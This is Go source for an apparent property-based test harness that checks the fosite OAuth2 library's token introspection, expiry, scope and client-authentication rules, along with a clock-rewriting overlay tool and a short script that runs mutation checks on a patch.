	if has("expired") {
		p.Exp = Unspec
	}
}

// ---------------------------------------------------------------- introspection endpoint (C09)

func (e *Eng) actIntrospectEndpoint() {
	t := e.t
	var pool []*Cred
	for _, c := range e.creds {
		if c.Kind == "access" || c.Kind == "refresh" {
			pool = append(pool, c)
		}
	}
	if len(pool) == 0 {
		t.Skip("no token")
	}
	c := pick(t, pool, "token")
	token := c.Val
	mutated := false
	if rapid.IntRange(0, 5).Draw(t, "mutate") == 0 {
		token = mutateToken(t, token)
		mutated = token != c.Val
	}
	hint := pick(t, []string{"", "access_token", "refresh_token", "garbage"}, "hint")
	var req []string
	switch rapid.IntRange(0, 6).Draw(t, "requireScope") {
	case 5:
		// a scope that was requested at authorization time but declined by the user
		if d := c.G.Extra["declined"]; d != "" {
			req = []string{d}
			e.label("introspect-requires-declined-scope")
		}
	case 0:
		if len(c.G.Scopes) > 0 {
			req = []string{pick(t, c.G.Scopes, "covered")}
		}
	case 1:
		req = []string{"not-granted"}
	case 3:
		// scope values are case-sensitive under every strategy: another spelling of a granted scope is not granted
		if len(c.G.Scopes) > 0 {
			g0 := pick(t, c.G.Scopes, "caseVariantOf")
			req = []string{strings.ToUpper(g0[:1]) + g0[1:]}
			e.label("introspect-requires-case-variant-of-granted-scope")
		}
	case 2:
		req = append(append([]string{}, c.G.Scopes...), "zzz")
	case 4:
		// dotted names: a child of a granted scope (covered under the hierarchic strategy only), or a name that merely
		// starts with the letters of a granted scope and has a dot somewhere later (covered under none)
		if len(c.G.Scopes) > 0 {
			g0 := pick(t, c.G.Scopes, "dottedFrom")
			req = []string{g0 + pick(t, []string{".read", ".read.all", "ing.read", "s.payable.write", "_admin.delete", "."}, "suffix")}
			e.label("introspect-requires-dotted-scope")
		}
	}
	form := url.Values{"token": {token}}
	if hint != "" {
		form.Set("token_type_hint", hint)
	}
	if len(req) > 0 {
		form.Set("scope", strings.Join(req, " "))
	}
	// caller
	var auth h.Auth
	callerOK := Active
	callerKind := pick(t, []string{"basic", "basic", "basic-wrong", "none", "bearer", "bearer", "bearer-same", "bearer-refresh", "basic-public", "public-id-only"}, "caller")
	switch callerKind {
	case "basic":
		auth = e.w.BasicFor(pick(t, []string{"A", "B"}, "callerClient"))
	case "basic-wrong":
		auth = h.Auth{BasicUser: "A", BasicPass: "nope"}
		callerOK = Inactive
	case "basic-public":
		auth = h.Auth{BasicUser: "P", BasicPass: "x"}
		callerOK = Inactive
	case "public-id-only":
		// a public client has no credentials: naming it (which is all the token endpoint asks of it) authenticates nobody
		switch rapid.IntRange(0, 2).Draw(t, "publicIDHow") {
		case 0:
			auth = h.Auth{BasicUser: "P"}
		case 1:
			form.Set("client_id", "P")
		default:
			auth = h.Auth{BasicUser: "P"}
			form.Set("client_id", "P")
		}
		callerOK = Inactive
	case "none":
		callerOK = Inactive
	case "bearer":
		var acc []*Cred
		for _, o := range e.creds {
			if o.Kind == "access" && o.Val != token {
				acc = append(acc, o)
			}
		}
		if len(acc) == 0 {
			auth = e.w.BasicFor("A")
			callerKind = "basic"
			break
		}
		b := pick(t, acc, "bearerToken")
		auth = h.Auth{Bearer: b.Val}
		callerOK, _ = e.effective(b)
	case "bearer-same":
		auth = h.Auth{Bearer: token}
		callerOK = Inactive
	case "bearer-refresh":
		rp := e.pool("refresh")
		if len(rp) == 0 {
			callerOK = Inactive
			callerKind = "none"
			break
		}
		auth = h.Auth{Bearer: pick(t, rp, "bearerRefresh").Val}
		if auth.Bearer == token {
			callerKind = "bearer-same"
		}
		callerOK = Inactive
	}
	res := e.w.IntrospectEndpoint(form, auth)
	want, why := e.effective(c)
	e.step(fmt.Sprintf("introspect:%s:%v:%v", callerKind, want, len(req)))
	e.logf("introspect %v mutated=%v hint=%q require=%q caller=%s(%v) -> err=%v active=%v body=%s", c, mutated, hint, req, callerKind, callerOK, res.Err, res.Active, strings.TrimSpace(string(res.Body)))
	e.label("introspect-caller=" + callerKind)
	if res.Header.Get("Cache-Control") != "no-store" {
		e.viol("C20/introspection-not-no-store", "introspection response without Cache-Control: no-store")
	}
	if callerOK == Unspec {
		return
	}
	if callerOK == Inactive {
		if res.Err.OK() || res.Active {
			e.viol("C09/unauthenticated-caller-answered", "caller %s is not authenticated but the endpoint answered: err=%v body=%s", callerKind, res.Err, res.Body)
		}
		if len(res.JSON) > 0 {
			for k := range res.JSON {
				if k != "active" && !strings.HasPrefix(k, "error") {
					e.viol("C09/unauthenticated-caller-answered", "unauthenticated caller %s got field %q: %s", callerKind, k, res.Body)
				}
			}
		}
		return
	}
	// authenticated caller
	if mutated {
		if res.Active {
			e.viol("C09/mutated-token-active", "mutated token %q (from %v) reported active", token, c)
			e.viol("C06/mutated-token-accepted", "mutated token %q (from %v) reported active", token, c)
		}
		return
	}
	if want == Unspec {
		return
	}
	covered := true
	for _, s := range req {
		switch h.RefScope(h.RefScopeByName(e.scopeStrategy), c.G.Scopes, s) {
		case h.No:
			covered = false
		case h.Unspecified:
			return
		}
	}
	refreshDisabled := e.w.Cfg.DisableRefreshTokenValidation
	wantActive := want == Active && covered
	if c.Kind == "refresh" && refreshDisabled {
		wantActive = false
	}
	if wantActive != res.Active {
		if res.Active {
			if want == Inactive {
				e.viol(why, "%v must be inactive (%s) but the endpoint reports active", c, why)
				e.viol("C09/dead-token-reported-active", "%v must be inactive (%s) but the endpoint reports active", c, why)
			} else {
				e.viol("C09/required-scope-not-enforced", "%v granted %q reported active although the caller required %q", c, c.G.Scopes, req)
			}
		} else {
			e.viol("C09/live-token-reported-inactive", "%v must be active (required scopes %q covered=%v) but the endpoint says inactive: %v", c, req, covered, res.Err)
		}
		return
	}
	if !res.Active {
		if strings.TrimSpace(string(res.Body)) != `{"active":false}` {
			e.viol("C09/inactive-response-leaks", "inactive token answered with %s", res.Body)
		}
		return
	}
	// active: the payload tells the truth
	if got, _ := res.JSON["client_id"].(string); got != c.G.Client {
		e.viol("C09/wrong-client", "%v: endpoint reports client_id %q", c, got)
	}
	if c.G.Subject != "" {
		if got, _ := res.JSON["sub"].(string); got != c.G.Subject {
			e.viol("C09/wrong-subject", "%v: endpoint reports sub %q, want %q", c, got, c.G.Subject)
		}
	}
	gotScope, _ := res.JSON["scope"].(string)
	if !sameSet(strings.Fields(gotScope), c.G.Scopes) {
		e.viol("C09/wrong-scopes", "%v: endpoint reports scope %q, granted %q", c, gotScope, c.G.Scopes)
	}
	var gotAud []string
	if l, ok := res.JSON["aud"].([]interface{}); ok {
		for _, x := range l {
			gotAud = append(gotAud, fmt.Sprint(x))
		}
	}
	if !sameSet(gotAud, c.G.Aud) {
		e.viol("C09/wrong-audience", "%v: endpoint reports aud %q, granted %q", c, gotAud, c.G.Aud)
	}
	if c.Kind == "access" && !c.Expiry.IsZero() {
		if f, ok := res.JSON["exp"].(float64); ok {
			if diff := time.Unix(int64(f), 0).Sub(c.Expiry); diff > 2*time.Second || diff < -2*time.Second {
				e.viol("C09/wrong-expiry", "%v: endpoint reports exp %v, advertised %v", c, time.Unix(int64(f), 0).UTC(), c.Expiry)
			}
		} else {
			e.viol("C09/wrong-expiry", "%v: endpoint reports no exp", c)
		}
	}
}

// mutateToken applies one named edit to a token.
func mutateToken(t *rapid.T, tok string) string {
	if len(tok) < 8 {
		return tok + "x"
	}
	switch rapid.IntRange(0, 5).Draw(t, "edit") {
	case 0: // flip a character in the random part
		i := rapid.IntRange(0, len(tok)/3).Draw(t, "pos")
		return flipChar(tok, i)
	case 1: // flip a character in the signature part
		i := rapid.IntRange(len(tok)*2/3, len(tok)-1).Draw(t, "pos")
		return flipChar(tok, i)
	case 2:
		return tok[:len(tok)-2]
	case 3:
		return tok + "A"
	case 4:
		if i := strings.LastIndex(tok, "."); i > 0 {
			return "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" + tok[i:]
		}
		return tok
	default:
		return strings.ToUpper(tok[:4]) + tok[4:]
	}
}

func flipChar(s string, i int) string {
	b := []byte(s)
	if i < 0 || i >= len(b) {
		return s
	}
	switch {
	case b[i] == '.' || b[i] == '_':
		return s + "x"
	case b[i] == 'A':
		b[i] = 'B'
	default:
		b[i] = 'A'
	}
	return string(b)
}
