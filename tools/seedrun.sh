#!/bin/bash
# usage: tools/seedrun.sh <ID> <X> [check ids...] — run my quick checks against a sub-agent's change (default: the property's own check)
ID=$1; X=$2; shift 2
checks="${@:-$ID}"
/verif/tools/mutcheck.sh ${SEEDDIR:-/tmp/seed}/$ID.out/$X/patch.diff $checks 2>&1 | cut -c1-260
