// Command instr builds a `go build -overlay` file that gives the harness a
// virtual clock without touching /repo: every non-test .go file of the fosite
// module that reads the wall clock (time.Now / time.Since / time.Until) is
// rewritten so that it reads github.com/ory/fosite/token/jwt.TimeFunc instead
// (that variable already exists in fosite and is settable). The rewrite is
// recomputed from the working tree on every run, so an edited tree is what
// gets tested.
//
// usage: instr -repo /repo -out <scratchdir>   (writes <scratchdir>/overlay.json)
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"go/ast"
	"go/format"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

const jwtPkg = "github.com/ory/fosite/token/jwt"

func main() {
	repo := flag.String("repo", "/repo", "fosite working tree")
	out := flag.String("out", "", "scratch directory for rewritten files")
	flag.Parse()
	if *out == "" {
		fmt.Fprintln(os.Stderr, "instr: -out required")
		os.Exit(2)
	}
	if err := os.MkdirAll(*out, 0o755); err != nil {
		fatal(err)
	}
	repoAbs, err := filepath.Abs(*repo)
	if err != nil {
		fatal(err)
	}
	replace := map[string]string{}
	n := 0
	err = filepath.Walk(repoAbs, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if info.IsDir() {
			b := info.Name()
			if p != repoAbs && (strings.HasPrefix(b, ".") || b == "node_modules" || b == "testdata" || b == "docs" || b == "integration") {
				return filepath.SkipDir
			}
			// nested modules are not part of the fosite module
			if p != repoAbs {
				if _, e := os.Stat(filepath.Join(p, "go.mod")); e == nil {
					return filepath.SkipDir
				}
			}
			return nil
		}
		if !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") {
			return nil
		}
		src, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if !bytes.Contains(src, []byte("time.")) {
			return nil
		}
		rel, _ := filepath.Rel(repoAbs, p)
		res, changed, err := rewrite(p, src, filepath.ToSlash(filepath.Dir(rel)) == "token/jwt")
		if err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
		if !changed {
			return nil
		}
		dst := filepath.Join(*out, strings.ReplaceAll(rel, string(filepath.Separator), "__"))
		if err := os.WriteFile(dst, res, 0o644); err != nil {
			return err
		}
		replace[p] = dst
		n++
		return nil
	})
	if err != nil {
		fatal(err)
	}
	b, _ := json.MarshalIndent(map[string]any{"Replace": replace}, "", " ")
	if err := os.WriteFile(filepath.Join(*out, "overlay.json"), b, 0o644); err != nil {
		fatal(err)
	}
	fmt.Printf("instr: %d files rewritten\n", n)
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "instr:", err)
	os.Exit(2)
}

func rewrite(path string, src []byte, inJWT bool) ([]byte, bool, error) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, path, src, parser.ParseComments)
	if err != nil {
		return nil, false, err
	}
	// name under which "time" is imported
	timeName := ""
	for _, im := range f.Imports {
		ip, _ := strconv.Unquote(im.Path.Value)
		if ip == "time" {
			timeName = "time"
			if im.Name != nil {
				timeName = im.Name.Name
			}
		}
	}
	if timeName == "" || timeName == "_" || timeName == "." {
		return nil, false, nil
	}
	clockExpr := func() ast.Expr {
		if inJWT {
			return &ast.CallExpr{Fun: ast.NewIdent("TimeFunc")}
		}
		return &ast.CallExpr{Fun: &ast.SelectorExpr{X: ast.NewIdent("verifclk"), Sel: ast.NewIdent("TimeFunc")}}
	}
	isTimeSel := func(e ast.Expr, name string) bool {
		s, ok := e.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		id, ok := s.X.(*ast.Ident)
		return ok && id.Name == timeName && id.Obj == nil && s.Sel.Name == name
	}
	changed := false
	var visit func(n ast.Node) bool
	// Replace call expressions in place by walking parents that hold expressions.
	replaceExpr := func(e ast.Expr) (ast.Expr, bool) {
		c, ok := e.(*ast.CallExpr)
		if !ok {
			return e, false
		}
		switch {
		case isTimeSel(c.Fun, "Now") && len(c.Args) == 0:
			return clockExpr(), true
		case isTimeSel(c.Fun, "Since") && len(c.Args) == 1:
			return &ast.CallExpr{Fun: &ast.SelectorExpr{X: clockExpr(), Sel: ast.NewIdent("Sub")}, Args: []ast.Expr{c.Args[0]}}, true
		case isTimeSel(c.Fun, "Until") && len(c.Args) == 1:
			return &ast.CallExpr{Fun: &ast.SelectorExpr{X: &ast.ParenExpr{X: c.Args[0]}, Sel: ast.NewIdent("Sub")}, Args: []ast.Expr{clockExpr()}}, true
		}
		return e, false
	}
	_ = visit
	skipDecl := map[ast.Node]bool{}
	if inJWT {
		// leave `var TimeFunc = time.Now` alone
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok || gd.Tok != token.VAR {
				continue
			}
			for _, sp := range gd.Specs {
				vs := sp.(*ast.ValueSpec)
				for _, nm := range vs.Names {
					if nm.Name == "TimeFunc" {
						skipDecl[gd] = true
					}
				}
			}
		}
	}
	// generic expression rewriting via reflection-free walk: handle the node
	// kinds that can hold an expression.
	ast.Inspect(f, func(n ast.Node) bool {
		if n == nil {
			return true
		}
		if skipDecl[n] {
			return false
		}
		rw := func(p *ast.Expr) {
			if *p == nil {
				return
			}
			if ne, ok := replaceExpr(*p); ok {
				*p = ne
				changed = true
			}
		}
		rws := func(l []ast.Expr) {
			for i := range l {
				rw(&l[i])
			}
		}
		switch x := n.(type) {
		case *ast.CallExpr:
			rw(&x.Fun)
			rws(x.Args)
		case *ast.SelectorExpr:
			rw(&x.X)
		case *ast.AssignStmt:
			rws(x.Rhs)
			rws(x.Lhs)
		case *ast.ValueSpec:
			rws(x.Values)
		case *ast.ReturnStmt:
			rws(x.Results)
		case *ast.BinaryExpr:
			rw(&x.X)
			rw(&x.Y)
		case *ast.UnaryExpr:
			rw(&x.X)
		case *ast.ParenExpr:
			rw(&x.X)
		case *ast.KeyValueExpr:
			rw(&x.Key)
			rw(&x.Value)
		case *ast.CompositeLit:
			rws(x.Elts)
		case *ast.IndexExpr:
			rw(&x.X)
			rw(&x.Index)
		case *ast.ExprStmt:
			rw(&x.X)
		case *ast.IfStmt:
			rw(&x.Cond)
		case *ast.SwitchStmt:
			rw(&x.Tag)
		case *ast.CaseClause:
			rws(x.List)
		case *ast.SendStmt:
			rw(&x.Chan)
			rw(&x.Value)
		case *ast.StarExpr:
			rw(&x.X)
		case *ast.TypeAssertExpr:
			rw(&x.X)
		case *ast.SliceExpr:
			rw(&x.X)
			rw(&x.Low)
			rw(&x.High)
			rw(&x.Max)
		case *ast.ForStmt:
			rw(&x.Cond)
		case *ast.RangeStmt:
			rw(&x.X)
		case *ast.IncDecStmt:
			rw(&x.X)
		case *ast.DeferStmt, *ast.GoStmt:
			// their Call is a *ast.CallExpr visited on its own
		}
		return true
	})
	if !changed {
		return nil, false, nil
	}
	// any remaining reference to time.Now as a *value* (not call) is left alone.
	if !inJWT {
		// add import verifclk "github.com/ory/fosite/token/jwt"
		spec := &ast.ImportSpec{Name: ast.NewIdent("verifclk"), Path: &ast.BasicLit{Kind: token.STRING, Value: strconv.Quote(jwtPkg)}}
		added := false
		for _, d := range f.Decls {
			if gd, ok := d.(*ast.GenDecl); ok && gd.Tok == token.IMPORT {
				gd.Specs = append(gd.Specs, spec)
				if !gd.Lparen.IsValid() {
					gd.Lparen = gd.Pos()
					gd.Rparen = gd.End()
				}
				added = true
				break
			}
		}
		if !added {
			return nil, false, fmt.Errorf("no import decl")
		}
	}
	// keep the time import alive
	f.Decls = append(f.Decls, &ast.GenDecl{Tok: token.VAR, Specs: []ast.Spec{&ast.ValueSpec{
		Names: []*ast.Ident{ast.NewIdent("_")},
		Type:  &ast.SelectorExpr{X: ast.NewIdent(timeName), Sel: ast.NewIdent("Duration")},
	}}})
	var buf bytes.Buffer
	if err := format.Node(&buf, fset, f); err != nil {
		return nil, false, err
	}
	return buf.Bytes(), true, nil
}
