package props

import (
	"context"
	"fmt"
	"net/url"
	"sort"
	"strings"
	"time"

	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

// The history engine (DESIGN.md 3): one rapid state machine over world × model.
// Every assertion carries the id of the property it belongs to; a run arms the
// assertions of exactly one property.

type Expect int

const (
	Active Expect = iota
	Inactive
	Unspec
)

func (e Expect) String() string { return [...]string{"ACTIVE", "INACTIVE", "UNSPEC"}[e] }

type Cred struct {
	N        int
	Kind     string // code | access | refresh | device | par
	Val      string
	G        *Grant
	Origin   string // "authz" | "token"
	Gen      int
	Pair     *Cred
	Exp      Expect
	Why      string // fingerprint of the rule that made it inactive / unspecified
	Expiry   time.Time
	Consumed bool // successfully exchanged (code, refresh, device code, request_uri)
	Revoked  bool // revoked through the revocation endpoint
	Fails    int  // refused presentations so far
	UserCode string
	Decision string // device: "", "accept", "reject"
	Pruned   int    // access tokens: 2 = the store's housekeeping removed the expired row, 1 = may have
}

type Grant struct {
	N        int
	Client   string
	Flow     string
	Scopes   []string
	Aud      []string
	Subject  string
	Redirect string // redirect_uri sent at authorization ("" = none)
	Creds    []*Cred
	Dead     bool
	Extra    map[string]string
}

func (c *Cred) String() string {
	return fmt.Sprintf("%s#%d(g%d/%s gen%d %s)", c.Kind, c.N, c.G.N, c.G.Client, c.Gen, c.Origin)
}

type EngCfg struct {
	Prop    string         // armed property
	Weights map[string]int // action -> weight (0 = disabled)
	Stores  []string       // "mem", "tx"
	JWT     []bool
	// RefreshScopeModes: 0 = [] (always), 1 = default (offline), 2 = custom ("a")
	RefreshScopeModes []int
	Flows             []string // response types allowed in authorize
	ShortLived        bool     // draw short lifespans so that expiry happens inside histories
	ShortLivedHalf    bool     // ... in half of the cases
	Mutate            func(c *fosite.Config)
	MutateDraw        func(t *rapid.T, c *fosite.Config) // configuration choices that are part of the generated case
}

type Eng struct {
	scopeStrategy string // "", wildcard, hierarchic, exact (drawn for C05 and C09)
	t             *rapid.T
	cfg           EngCfg
	w             *h.World
	clients       []string
	grants        []*Grant
	creds         []*Cred
	log           []string
	rsMode        int
	labels        map[string]bool
	edits         map[string]int // number of registration edits per client
	nCred         int
	// digest parts for distinctness
	kinds []string
	// life spans in force
	codeLife, atLife, rtLife, devLife, parLife time.Duration
}

func (e *Eng) logf(format string, a ...any) {
	s := fmt.Sprintf("[t+%s] ", h.Now().Sub(h.Epoch)) + fmt.Sprintf(format, a...)
	e.log = append(e.log, s)
	e.t.Logf("%s", s)
}

func (e *Eng) label(l string) { e.labels[l] = true }

func (e *Eng) armed(tag string) bool { return strings.HasPrefix(tag, e.cfg.Prop+"/") }

// viol raises a violation if its tag belongs to the armed property.
func (e *Eng) viol(tag, format string, a ...any) bool {
	if !e.armed(tag) {
		e.label("unarmed:" + strings.SplitN(tag, "/", 2)[0])
		return false
	}
	msg := fmt.Sprintf(format, a...)
	e.logf("!! %s: %s", tag, msg)
	h.Violate(e.t, tag, "%s\n--- history ---\n%s", msg, strings.Join(e.log, "\n"))
	return true
}

var refreshScopeSets = [][]string{{}, nil, {"a"}}

func NewEng(t *rapid.T, cfg EngCfg) *Eng {
	h.ClockReset()
	e := &Eng{t: t, cfg: cfg, labels: map[string]bool{}, edits: map[string]int{}}
	store := rapid.SampledFrom(cfg.Stores).Draw(t, "store")
	jwt := rapid.SampledFrom(cfg.JWT).Draw(t, "jwtAccess")
	e.rsMode = rapid.SampledFrom(cfg.RefreshScopeModes).Draw(t, "refreshScopes")
	e.codeLife, e.atLife, e.rtLife, e.devLife, e.parLife = 15*time.Minute, time.Hour, 30*24*time.Hour, 10*time.Minute, 5*time.Minute
	if cfg.ShortLived || (cfg.ShortLivedHalf && rapid.Bool().Draw(t, "shortLived")) {
		e.codeLife = time.Duration(rapid.SampledFrom([]int{20, 60, 900}).Draw(t, "codeLife")) * time.Second
		e.atLife = time.Duration(rapid.SampledFrom([]int{30, 120, 3600}).Draw(t, "atLife")) * time.Second
		e.rtLife = time.Duration(rapid.SampledFrom([]int{-1, 90, 600, 86400}).Draw(t, "rtLife")) * time.Second
		e.devLife = time.Duration(rapid.SampledFrom([]int{30, 600}).Draw(t, "devLife")) * time.Second
		e.parLife = time.Duration(rapid.SampledFrom([]int{20, 300}).Draw(t, "parLife")) * time.Second
		if e.rtLife < 0 {
			e.rtLife = -1
		}
	}
	fositeSession := rapid.Bool().Draw(t, "fositeSessionType")
	plainSession := fositeSession && !jwt && rapid.IntRange(0, 2).Draw(t, "plainOAuth2Session") == 0
	legacyRevoker := cfg.Prop == "C08" && rapid.IntRange(0, 2).Draw(t, "legacyRevocationHandlerFirst") == 0
	if cfg.Prop == "C09" {
		// "covered ... under the configured scope strategy": the engine's scope names are plain words, which every
		// strategy treats alike when granting; the strategies differ for the dotted names a caller may require
		e.scopeStrategy = rapid.SampledFrom([]string{"wildcard", "wildcard", "hierarchic", "hierarchic", "exact"}).Draw(t, "scopeStrategy")
	}
	if cfg.Prop == "C05" {
		// "... and scope strategy": a registration covers exactly the plain names it lists under each of them
		e.scopeStrategy = rapid.SampledFrom([]string{"", "wildcard", "hierarchic", "hierarchic", "exact"}).Draw(t, "scopeStrategy")
	}
	e.w = h.NewWorld(h.Spec{Store: store, JWTAccess: jwt, FositeSession: fositeSession, PlainSession: plainSession, LegacyRevocationHandler: legacyRevoker, ScopeStrategy: e.scopeStrategy, RefreshScopes: refreshScopeSets[e.rsMode], Mutate: func(c *fosite.Config) {
		c.AuthorizeCodeLifespan = e.codeLife
		c.AccessTokenLifespan = e.atLife
		c.RefreshTokenLifespan = e.rtLife
		c.DeviceAndUserCodeLifespan = e.devLife
		c.PushedAuthorizeContextLifespan = e.parLife
		if cfg.Mutate != nil {
			cfg.Mutate(c)
		}
		if cfg.MutateDraw != nil {
			cfg.MutateDraw(t, c)
		}
	}})
	if legacyRevoker {
		e.label("second-revocation-handler-configured")
	}
	if e.w.Tx != nil && rapid.Bool().Draw(t, "revokeAnswersNotFoundWhenNothingMatched") {
		// like SQL-backed stores: revoking by a request id that has no row left answers ErrNotFound
		e.w.Tx.NotFoundOnEmptyRevoke = true
		e.label("store-answers-not-found-on-empty-revoke")
	}
	for _, id := range []string{"A", "B"} {
		c := stdClient(id, false)
		c.Secret = e.w.HashSecret("secret-" + id)
		if id == "A" {
			// A may ask for an explicit response mode, B may not
			c.ResponseModes = []fosite.ResponseModeType{fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost}
		}
		e.w.AddClient(c, "secret-"+id)
		e.clients = append(e.clients, id)
	}
	// a client whose id differs from A's only in letter case: client ids are case-sensitive, it is a stranger to A's grants
	la := stdClient("a", false)
	la.Secret = e.w.HashSecret("secret-a")
	e.w.AddClient(la, "secret-a")
	e.clients = append(e.clients, "a")
	p := stdClient("P", true)
	p.TokenEndpointAuthMethod = "none"
	p.GrantTypes = []string{"authorization_code", "refresh_token", "implicit", "urn:ietf:params:oauth:grant-type:device_code"}
	e.w.AddClient(p, "")
	e.clients = append(e.clients, "P")
	e.w.AddUser("peter", "pw")
	e.label(fmt.Sprintf("store=%s", store))
	e.label(fmt.Sprintf("jwt=%v", jwt))
	if e.w.NoOIDC() && jwt {
		e.label("session-type=oauth2.JWTSession")
	} else if e.w.NoOIDC() {
		e.label("session-type=fosite.DefaultSession")
	}
	e.label(fmt.Sprintf("refreshScopes=%d", e.rsMode))
	return e
}

func (e *Eng) auth(client string) h.Auth {
	if client == "P" {
		return h.Auth{}
	}
	return e.w.BasicFor(client)
}

// form adds client_id for the public client (which has no other way to identify itself).
func (e *Eng) form(client string, f url.Values) url.Values {
	if client == "P" {
		f.Set("client_id", "P")
	}
	return f
}

func (e *Eng) newGrant(client, flow string, scopes, aud []string, subject string) *Grant {
	g := &Grant{N: len(e.grants) + 1, Client: client, Flow: flow, Scopes: scopes, Aud: aud, Subject: subject, Extra: map[string]string{}}
	g.Extra["editgen"] = fmt.Sprint(e.edits[client])
	e.grants = append(e.grants, g)
	return g
}

func (e *Eng) addCred(g *Grant, kind, val, origin string, gen int, life time.Duration) *Cred {
	e.nCred++
	c := &Cred{N: e.nCred, Kind: kind, Val: val, G: g, Origin: origin, Gen: gen, Exp: Active}
	if life > 0 {
		c.Expiry = h.Now().Add(life)
	}
	g.Creds = append(g.Creds, c)
	e.creds = append(e.creds, c)
	return c
}

func (e *Eng) pool(kind string) []*Cred {
	var out []*Cred
	for _, c := range e.creds {
		if c.Kind == kind {
			out = append(out, c)
		}
	}
	return out
}

// effective expectation, taking the advertised expiry into account (±2 s).
func (e *Eng) effective(c *Cred) (Expect, string) {
	if c.Exp != Active || c.Expiry.IsZero() {
		return c.Exp, c.Why
	}
	d := h.Now().Sub(c.Expiry)
	switch {
	case d > 2*time.Second:
		return Inactive, "C07/expired-" + c.Kind + "-honoured"
	case d >= -2*time.Second:
		return Unspec, "expiry-margin"
	}
	return Active, ""
}

func (e *Eng) timeExpired(c *Cred) Expect {
	if c.Expiry.IsZero() {
		return Active
	}
	d := h.Now().Sub(c.Expiry)
	switch {
	case d > 2*time.Second:
		return Inactive
	case d >= -2*time.Second:
		return Unspec
	}
	return Active
}

func (e *Eng) setInactive(c *Cred, why string) {
	if c == nil {
		return
	}
	if c.Exp == Inactive {
		return
	}
	c.Exp = Inactive
	c.Why = why
}

func (e *Eng) setUnspec(c *Cred, why string) {
	if c == nil || c.Exp == Inactive {
		return
	}
	c.Exp = Unspec
	c.Why = why
}

// killFamily: every token-endpoint credential of the grant must be inactive,
// the authorization-endpoint access token (hybrid) is unspecified.
func (e *Eng) killFamily(g *Grant, why string) {
	g.Dead = true
	for _, c := range g.Creds {
		if c.Kind != "access" && c.Kind != "refresh" {
			continue
		}
		if c.Origin == "token" {
			e.setInactive(c, why)
		} else {
			e.setUnspec(c, "hybrid-sibling-of-killed-grant")
		}
	}
}

func (e *Eng) unspecFamily(g *Grant, why string) {
	for _, c := range g.Creds {
		if c.Kind == "access" || c.Kind == "refresh" {
			e.setUnspec(c, why)
		}
	}
}

func sameSet(a, b []string) bool {
	x := append([]string{}, a...)
	y := append([]string{}, b...)
	sort.Strings(x)
	sort.Strings(y)
	return strings.Join(x, "\x00") == strings.Join(y, "\x00")
}

// invariant: introspect every token the model knows and compare. stepTag is
// the tag to blame when a token that must be active has been killed by the
// step that just ran ("" = none).
func (e *Eng) invariant(stepTag string, own ...*Grant) {
	for _, c := range e.creds {
		if c.Kind != "access" && c.Kind != "refresh" {
			continue
		}
		want, why := e.effective(c)
		if want == Unspec {
			continue
		}
		if c.Kind == "refresh" && e.w.Cfg.DisableRefreshTokenValidation && want == Active {
			// refresh-token introspection is switched off: a refresh token is never reported active
			want, why = Inactive, "C09/refresh-token-reported-although-introspection-disabled"
		}
		use := fosite.AccessToken
		if c.Kind == "refresh" {
			use = fosite.RefreshToken
		}
		d := e.w.IntrospectDirect(c.Val, use)
		if want == Inactive && d.Active {
			e.viol(why, "%v must be inactive (%s) but introspection reports it active", c, why)
			e.viol("C09/dead-token-reported-active", "%v must be inactive (%s) but introspection reports it active", c, why)
			continue
		}
		if want == Active && !d.Active {
			isOwn := false
			for _, g := range own {
				if g == c.G {
					isOwn = true
				}
			}
			if stepTag != "" && !isOwn {
				e.viol(stepTag, "%v must still be active but the last step made it inactive (%s)", c, d.Err)
			}
			e.viol("C09/live-token-reported-inactive", "%v must be active but introspection says inactive: %s", c, d.Err)
			// resynchronise
			c.Exp = Unspec
			continue
		}
		if want == Active && d.Active {
			if string(d.Use) != map[string]string{"access": "access_token", "refresh": "refresh_token"}[c.Kind] {
				e.viol("C09/wrong-token-kind", "%v reported as %q", c, d.Use)
			}
			if d.ClientID != c.G.Client {
				e.viol("C09/wrong-client", "%v reported for client %q", c, d.ClientID)
			}
			if c.G.Subject != "" && d.Subject != c.G.Subject {
				e.viol("C09/wrong-subject", "%v reported subject %q, granted %q", c, d.Subject, c.G.Subject)
			}
			if !sameSet(d.Scopes, c.G.Scopes) {
				e.viol("C09/wrong-scopes", "%v reported scopes %q, granted %q", c, d.Scopes, c.G.Scopes)
				e.viol("C02/grant-changed", "%v carries scopes %q, granted %q", c, d.Scopes, c.G.Scopes)
				e.viol("C05/grant-changed", "%v carries scopes %q, granted %q", c, d.Scopes, c.G.Scopes)
			}
			if !sameSet(d.Audience, c.G.Aud) {
				e.viol("C09/wrong-audience", "%v reported audience %q, granted %q", c, d.Audience, c.G.Aud)
				e.viol("C02/grant-changed", "%v carries audience %q, granted %q", c, d.Audience, c.G.Aud)
				e.viol("C05/grant-changed", "%v carries audience %q, granted %q", c, d.Audience, c.G.Aud)
			}
			if c.Kind == "access" && !c.Expiry.IsZero() {
				if diff := d.Exp.Sub(c.Expiry); diff > 2*time.Second || diff < -2*time.Second {
					e.viol("C09/wrong-expiry", "%v reported exp %v, advertised %v", c, d.Exp, c.Expiry)
				}
			}
		}
	}
}

// refreshExpected: C05's issuance rule.
func (e *Eng) refreshExpected(flow, client string, granted []string) bool {
	rs := refreshScopeSets[e.rsMode]
	if rs == nil {
		rs = []string{"offline", "offline_access"}
	}
	if len(rs) > 0 && !fosite.Arguments(granted).HasOneOf(rs...) {
		return false
	}
	if flow == "code" || flow == "hybrid" || flow == "device" {
		cl, _ := e.w.Mem.GetClient(context.Background(), client)
		if cl == nil || !cl.GetGrantTypes().Has("refresh_token") {
			return false
		}
	}
	return true
}

// registerTokens records the pair returned by the token endpoint.
func (e *Eng) registerTokens(g *Grant, tr *h.TokenResult, gen int, flow string) (*Cred, *Cred) {
